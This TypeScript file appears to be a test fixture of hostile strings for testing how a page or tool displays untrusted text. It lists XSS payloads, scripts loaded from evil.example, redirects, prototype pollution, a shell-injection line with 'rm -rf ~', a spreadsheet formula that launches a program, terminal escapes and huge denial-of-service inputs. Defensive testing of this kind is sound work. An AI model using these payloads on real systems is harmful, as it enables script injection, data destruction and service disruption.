/** A text that means harm to the page that shows it. */
export interface Payload {
  name: string;
  /** What goes wrong where it is not taken for mere text. */
  why: string;
  text: string;
}

/** What a payload runs where it can: a test sees each of the three. */
const run = "window.owned=1;document.title='owned';alert(1)";

/** The start of a random sequence, the same each time. */
const SEED = 20_261_123;

/** Random bytes without NUL, read as Latin letters and controls. */
function noise(length: number): string {
  let state = SEED;
  const next = () => (state = (state * 48_271) % 0x7fff_ffff) % 255;
  return Array.from({ length }, () => String.fromCharCode(1 + next())).join('');
}

/** A text in a string in a string …, `depth` times. */
function quoted(text: string, depth: number): string {
  let all = text;
  for (let level = 0; level < depth; level++) all = JSON.stringify({ error: all });
  return all;
}

const failure = 'Error: 401 Unauthorized {"type":"authentication_error","message":"Invalid API key"}';

/** Texts that are short enough for an address, a field or a search. */
export const shortPayloads: readonly Payload[] = [
  { name: 'a script', why: 'runs as soon as it is markup', text: `<script>${run}</script>` },
  { name: 'a script of another site', why: 'is fetched and runs', text: '<script src="https://evil.example/x.js"></script><link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'an image that fails', why: 'its handler runs, also in markup that was inserted later', text: `<img src=x onerror="${run}">` },
  { name: 'a picture from elsewhere', why: 'tells a host that the text was read', text: '<img src="https://evil.example/read.gif"><video poster="//evil.example/v"><input type=image src=//evil.example/i>' },
  { name: 'vector graphics', why: 'hold scripts and handlers of their own', text: `<svg onload="${run}"><script>${run}</script><animate onbegin="${run}" attributeName=x dur=1s></svg>` },
  { name: 'mathematics', why: 'its links run scripts, and it confuses sanitizers', text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"><maction xlink:href="javascript:${run}">x` },
  { name: 'handlers that need no click', why: 'run by focus, by opening, by animation', text: `<details open ontoggle="${run}">x</details><input autofocus onfocus="${run}"><body onpageshow="${run}"><marquee onstart="${run}">` },
  { name: 'frames', why: 'hold documents of their own', text: `<iframe srcdoc="<script>parent.owned=1;${run}</script>"></iframe><object data="javascript:${run}"></object><embed src="//evil.example">` },
  { name: 'markup that changes when it is read twice', why: 'slips past what cleans it once', text: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><img src=x onerror="${run}"></template>` },
  { name: 'the end of a box', why: 'leaves the element that holds the text', text: `</textarea></code></pre></script></style></title>--><script>${run}</script><img src=x onerror=${run}>` },
  { name: 'comments and sections', why: 'swallow what stands behind them', text: `<!-- <img --> ]]> <![CDATA[ <?xml ?> <!DOCTYPE x [<!ENTITY a "b">]> --!> <!--><script>${run}</script>` },
  { name: 'links that run', why: 'run at a click', text: `<a href="javascript:${run}" autofocus>x</a> [x](javascript:${run}) javascript:${run} jAvAsCrIpT\t:${run} data:text/html,<script>${run}</script> vbscript:x` },
  { name: 'a change of base and a refresh', why: 'sends every link, or the reader, elsewhere', text: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><button autofocus>' },
  { name: 'names of the page', why: 'take the place of the elements and functions that scripts look for', text: '<form id=data-paste data-paste><img name=querySelector><input name=body><a id=location href=x></a></form><div data-answer data-lookup data-catalog="//evil.example/c.js">' },
  { name: 'templates', why: 'are evaluated by libraries that fill pages', text: `{{constructor.constructor("${run}")()}} \${alert(1)} \`\${alert(1)}\` {%if 1%} <%= 7*7 %> #{7*7} [[${run}]] ng-app v-html="x" $'&$\`$1` },
  { name: 'a prototype in JSON', why: 'adds a key to every object', text: `{"__proto__": {"owned": 1}, "constructor": {"prototype": {"owned": 1}}, "a": ${failure}}` },
  { name: 'a prototype in headers and names', why: 'meets what every object has by birth', text: '__proto__: x\nconstructor: y\ntoString=z\nhasOwnProperty: 401\nprovider: __proto__ model=constructor provider=toString\nerror code: valueOf status __defineGetter__ "type":"__proto___error"' },
  { name: 'a prototype as a parameter', why: 'adds a key to what reads an address', text: '__proto__[owned]=1&constructor.prototype.owned=1&__proto__=x&toString=y&provider=__proto__&to=constructor' },
  { name: 'percent codes', why: 'become markup when they are decoded once too often', text: `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(run)}%3E &lt;img src=x onerror=${run}&gt; &#60;script&#62; %00 %ff %E0%A4%A %u003cscript \\u003cscript\\u003e \\x3cscript` },
  { name: 'a shell in a value', why: 'runs where the value stands in a command that is copied', text: '$(touch /tmp/owned) `id` ; rm -rf ~ | sh && x > /etc/passwd \' " \\ --help' },
  { name: 'a formula', why: 'runs where a table is opened', text: '=cmd|\' /C calc\'!A0\n+1+1\n@SUM(1)\n-2+3\n"=HYPERLINK(""https://evil.example"")"' },
  { name: 'terminal escapes', why: 'set the title, write the clipboard, move the cursor, hide a link', text: '\u001b]0;owned\u0007\u001b]52;c;b3duZWQ=\u0007\u001b[2J\u001b[H\u001b]8;;javascript:alert(1)\u001b\\here\u001b]8;;\u001b\\ \u009b31m\u009d0;x\u009c\u0090q\u009c \u001bc' },
  { name: 'the other direction of writing', why: 'turns the words around it, so that they say something else', text: `\u202e${failure}\u2066 \u202d\u2067\u202b \u202agnp.\u200f exe \u2068\u061c שלום العربية 401` },
  { name: 'control characters', why: 'end strings, beep, go back in the line', text: `${String.fromCharCode(...Array.from({ length: 32 }, (_, code) => code))}\u007f\u0080\u0085\u009f\ufeff\ufffe\uffff\u2028\u2029 401\0 Unauthorized` },
  { name: 'halves of characters', why: 'cannot be encoded', text: '\ud800 a \udc00 \udfff\ud800 \ud83d 401 Unauthorized \udead' },
  { name: 'piles of marks', why: 'reach into the lines above and below', text: `401 ${[...'Unauthorized'].map((letter) => letter + '\u0300\u0301\u0315\u031b\u0322\u0489'.repeat(12)).join('')}` },
  { name: 'nothing that shows', why: 'is no text to the eye, and some to a program', text: '\u200b\u2060\u00ad\ufeff\u180e\u3164\u115f\u2800\u{e0041}\u{e007f}' },
  { name: 'the marks of Markdown and of the report', why: 'begin blocks that reach beyond their own', text: `\`\`\`\n~~~~\n# Owned\n===\n<details>\n[masked x](javascript:${run}) ![x](https://evil.example/x.png) @everyone #1\n| a |\n> q\n1. x` },
];

/** Texts that no address and no field would hold. */
export const longPayloads: readonly Payload[] = [
  { name: 'ten thousand brackets', why: 'overflow the stack of what reads them by recursion', text: `${'['.repeat(10_000)}401 Unauthorized${']'.repeat(10_000)}` },
  { name: 'ten thousand objects that never end', why: 'overflow the stack, or are looked for the end of again and again', text: `${'{"error":'.repeat(10_000)}"401 Unauthorized` },
  { name: 'brackets of every kind', why: 'are read again from every place', text: '[{("\'<`'.repeat(10_000) },
  { name: 'JSON in JSON', why: 'doubles its backslashes at each depth', text: quoted(failure, 12) },
  { name: 'backslashes', why: 'are read again from each one', text: `${'\\'.repeat(100_000)}n${'\\"'.repeat(50_000)}` },
  { name: 'a line without an end', why: 'is laid out and searched as one', text: `${failure} ${'a1,'.repeat(350_000)}` },
  { name: 'a word without an end', why: 'is searched by every expression as one', text: `sk-${'aB3_'.repeat(250_000)}` },
  { name: 'nothing but line ends', why: 'are many lines, and no text', text: '\n'.repeat(50_000) },
  { name: 'the same short line without an end', why: 'is a line to lay out, and a mark to make, each time', text: '401\n'.repeat(99_999) },
  { name: 'secrets without an end', why: 'are a mask to make each time', text: 'token=sk-ant-api03-a1B2c3D4e5F6 me@firm.example\n'.repeat(8_000) },
  { name: 'evidence without an end', why: 'is a mark to make each time', text: `${failure}\n`.repeat(4_500) },
  { name: 'many directions of writing', why: 'nest deeper than a layout may', text: '\u202e\u2067a\u202b401 '.repeat(20_000) },
  { name: 'a mountain of marks', why: 'is one letter to the layout', text: `e${'\u0301'.repeat(100_000)}` },
  { name: 'much that is no text', why: 'is anything but words', text: noise(300_000) },
  { name: 'one word again and again', why: 'is looked for anew each time', text: 'a '.repeat(600_000) },
  { name: 'ten megabytes', why: 'take their time', text: `${failure}\n${'2026-11-23T10:00:00Z [gateway] one more line of a long log\n'.repeat(170_000)}` },
  { name: 'many scripts', why: 'are many chances', text: `<img src=x onerror="${run}"><script>${run}</script>\n`.repeat(3_000) },
];

/** What is no text at all: its first bytes, then random ones. */
export const binaries: Readonly<Record<string, number[]>> = {
  'screen.png': [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52],
  'logs.zip': [0x50, 0x4b, 3, 4, 0x14, 0, 0, 0, 8, 0],
  'gateway.log.gz': [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3],
};
